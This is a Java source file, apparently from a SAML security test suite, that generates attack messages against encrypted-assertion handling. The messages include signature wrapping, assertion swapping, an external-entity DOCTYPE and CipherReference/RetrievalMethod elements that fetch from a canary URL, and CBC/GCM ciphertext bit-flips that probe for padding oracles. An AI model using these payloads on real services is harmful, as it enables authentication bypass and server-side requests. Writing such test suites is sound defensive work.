package io.vestibule.protocol.saml.attack;

import static io.vestibule.protocol.saml.attack.AttackCase.attack;

import io.vestibule.protocol.saml.toy.Draft;
import io.vestibule.protocol.saml.toy.SamlNames;
import io.vestibule.protocol.saml.toy.Seal;
import io.vestibule.protocol.saml.toy.XmlEncryption;
import io.vestibule.protocol.saml.toy.XmlEncryption.Parts;
import java.util.List;
import java.util.function.Function;
import java.util.function.UnaryOperator;

/** Case 17 and the key transport of case 5: what anybody can encrypt to a public key proves nothing; and oracles. */
final class Encrypted {
    private Encrypted() {}

    static List<AttackCase> cases() {
        return List.of(
                attack("17-unsigned", "an unsigned assertion, encrypted, in an unsigned response", target -> {
                    Draft evil = target.evil();
                    return Message.post(evil.response(element(target, evil.assertion())), target);
                }),
                attack("17-swapped", "a signed response whose encrypted assertion was swapped", target -> {
                    Draft draft = target.draft();
                    String genuine = element(target, Seal.sign(draft.assertion(), target.key()));
                    String forged = element(target, target.evil().assertion());
                    return Message.post(
                            Seal.sign(draft.response(genuine), target.key()).replace(genuine, forged), target);
                }),
                attack("17-beside", "an unsigned encrypted assertion beside a signed one", target -> {
                    Draft draft = target.draft();
                    return Message.post(
                            draft.response(
                                    Seal.sign(draft.assertion(), target.key()),
                                    element(target, target.evil().assertion())),
                            target);
                }),
                attack("17-beside-first", "a signed assertion behind an unsigned encrypted one", target -> {
                    Draft draft = target.draft();
                    return Message.post(
                            draft.response(
                                    element(target, target.evil().assertion()),
                                    Seal.sign(draft.assertion(), target.key())),
                            target);
                }),
                attack("17-wrapped", "a forged assertion around the signed one, encrypted", target -> {
                    Draft draft = target.draft();
                    String genuine = Seal.sign(draft.assertion(), target.key());
                    String forged = target.evil()
                            .assertion()
                            .replace(
                                    "</saml:Conditions>",
                                    "</saml:Conditions><saml:Advice>" + genuine + "</saml:Advice>");
                    return Message.post(draft.response(element(target, forged)), target);
                }),
                attack("17-two-inside", "a forged and a signed assertion in one encrypted element", target -> {
                    Draft draft = target.draft();
                    String both = target.evil().assertion() + Seal.sign(draft.assertion(), target.key());
                    return Message.post(draft.response(element(target, both)), target);
                }),
                attack("17-doctype-inside", "an entity in the encrypted assertion", target -> {
                    Draft draft = target.draft();
                    String inside = "<!DOCTYPE x [<!ENTITY x SYSTEM \"" + target.canary() + "/inside\">]>"
                            + Seal.sign(draft.assertion(), target.key()).replace(">" + draft.nameId + "<", ">&x;<");
                    return Message.post(draft.response(element(target, inside)), target);
                }),
                attack("17-response-inside", "a response in the encrypted element", target -> {
                    Draft draft = target.draft();
                    return Message.post(draft.response(element(target, draft.signed(target.key()))), target);
                }),
                parts("17-cbc", "AES-CBC", XmlEncryption.CBC, XmlEncryption.OAEP, parts -> parts),
                parts(
                        "17-cbc-padding-last",
                        "AES-CBC with another last octet",
                        XmlEncryption.CBC,
                        XmlEncryption.OAEP,
                        parts -> {
                            return flipped(parts, 1);
                        }),
                parts(
                        "17-cbc-padding-block",
                        "AES-CBC with another octet of the block before",
                        XmlEncryption.CBC,
                        XmlEncryption.OAEP,
                        parts -> {
                            return flipped(parts, 17);
                        }),
                parts(
                        "17-cbc-content",
                        "AES-CBC with another octet in the middle",
                        XmlEncryption.CBC,
                        XmlEncryption.OAEP,
                        parts -> {
                            return flipped(parts, 500);
                        }),
                parts("17-gcm-tag", "AES-GCM with another tag", XmlEncryption.GCM, XmlEncryption.OAEP, parts -> {
                    return flipped(parts, 1);
                }),
                parts(
                        "17-gcm-content",
                        "AES-GCM with another octet in the middle",
                        XmlEncryption.GCM,
                        XmlEncryption.OAEP,
                        parts -> {
                            return flipped(parts, 500);
                        }),
                parts(
                        "17-gcm-short",
                        "AES-GCM with hardly any content",
                        XmlEncryption.GCM,
                        XmlEncryption.OAEP,
                        parts -> {
                            return parts.content(new byte[13]);
                        }),
                parts("17-key-garbage", "a wrapped key of garbage", XmlEncryption.GCM, XmlEncryption.OAEP, parts -> {
                    return new Parts(parts.block(), parts.transport(), new byte[256], parts.content());
                }),
                parts(
                        "17-cipher-unknown",
                        "a block cipher nobody knows",
                        XmlEncryption.GCM,
                        XmlEncryption.OAEP,
                        parts -> {
                            return new Parts("urn:x:nothing", parts.transport(), parts.wrappedKey(), parts.content());
                        }),
                parts("5-rsa15", "RSA 1.5 key transport", XmlEncryption.GCM, XmlEncryption.RSA_15, parts -> parts),
                parts(
                        "5-rsa15-garbage",
                        "RSA 1.5 key transport of garbage",
                        XmlEncryption.GCM,
                        XmlEncryption.RSA_15,
                        parts -> {
                            return new Parts(parts.block(), parts.transport(), new byte[256], parts.content());
                        }),
                element("17-cipher-reference", "the cipher text is to be fetched from an address", target -> {
                    return whole(target)
                            .replaceAll(
                                    "(?s)<xenc:CipherValue>[^<]*</xenc:CipherValue>(</xenc:CipherData></xenc:EncryptedData>)",
                                    "<xenc:CipherReference URI=\"" + target.canary() + "/cipher\"/>$1");
                }),
                element("17-key-reference", "the wrapped key is to be fetched from an address", target -> {
                    return whole(target)
                            .replaceAll(
                                    "(?s)<xenc:EncryptedKey>.*</xenc:EncryptedKey>",
                                    "<ds:RetrievalMethod URI=\"" + target.canary() + "/wrapped\" Type=\""
                                            + SamlNames.XENC + "EncryptedKey\"/>");
                }),
                element("17-many-keys", "a hundred wrapped keys", target -> {
                    String whole = whole(target);
                    String key = whole.replaceAll("(?s).*(<xenc:EncryptedKey>.*</xenc:EncryptedKey>).*", "$1");
                    String garbage =
                            key.replaceAll("<xenc:CipherValue>[^<]{40}", "<xenc:CipherValue>" + "A".repeat(40));
                    return whole.replace(key, garbage.repeat(100));
                }));
    }

    private static String element(Target target, String xml) {
        return XmlEncryption.assertion(xml, target.encryption().orElseThrow());
    }

    private static String whole(Target target) {
        return element(target, Seal.sign(target.draft().assertion(), target.key()));
    }

    /** The honest assertion, signed and encrypted with this much wrong, in a signed response. */
    private static AttackCase parts(
            String id, String what, String block, String transport, UnaryOperator<Parts> change) {
        return element(id, what, target -> {
            String assertion = Seal.sign(target.draft().assertion(), target.key());
            Parts parts = XmlEncryption.encrypt(assertion, target.encryption().orElseThrow(), block, transport);
            return change.apply(parts).element("EncryptedAssertion");
        });
    }

    private static AttackCase element(String id, String what, Function<Target, String> encrypted) {
        return attack(id, what, target -> {
            return Message.post(Seal.sign(target.draft().response(encrypted.apply(target)), target.key()), target);
        });
    }

    private static Parts flipped(Parts parts, int fromBehind) {
        byte[] content = parts.content().clone();
        content[content.length - fromBehind] ^= 0x55;
        return parts.content(content);
    }
}
